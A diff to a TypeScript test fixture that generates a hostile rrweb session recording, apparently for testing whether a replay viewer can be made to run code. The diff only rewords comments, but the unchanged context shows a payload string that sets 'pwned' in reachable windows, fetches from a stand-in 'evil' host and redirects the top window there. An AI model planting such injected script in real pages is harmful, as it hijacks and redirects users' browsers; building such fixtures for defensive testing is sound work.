@@ -1,6 +1,6 @@
 /**
- * A recording by somebody who wants the viewer's browser to run code, to leave the page, or to ask `evil`. It has what
- * a page can hold, in snapshots and in changes, as no recorder would send it.
+ * A hostile recording that tries to make the viewer's browser run code, leave the page, or send requests to `evil`. It
+ * puts all kinds of page content into snapshots and changes, as no recorder would.
  */
 
 type Attributes = Readonly<Record<string, unknown>>
@@ -18,7 +18,7 @@ const svg = (tagName: string, attributes: Attributes = {}, ...childNodes: readon
   isSVG: true,
 })
 
-/** Sets `pwned` in every window that it can reach, and asks `evil`. */
+/** Sets `pwned` in every reachable window, and sends a request to `evil`. */
 const codeOf = (evil: string) =>
   `for (const one of [self, parent, top]) try { one.pwned = 1 } catch {} ; fetch('${evil}/fetch'); top.location = '${evil}/top'`
 
@@ -95,7 +95,7 @@ function elementsOf(evil: string): object[] {
 
 const cover = 'position: fixed; inset: 0; z-index: 9'
 
-/** Events of rrweb, each after the one before, from `start` on. */
+/** Consecutive rrweb events from `start` on. */
 export function hostileRecording(evil: string, start: number): object[] {
   ids = 1
   const code = codeOf(evil)
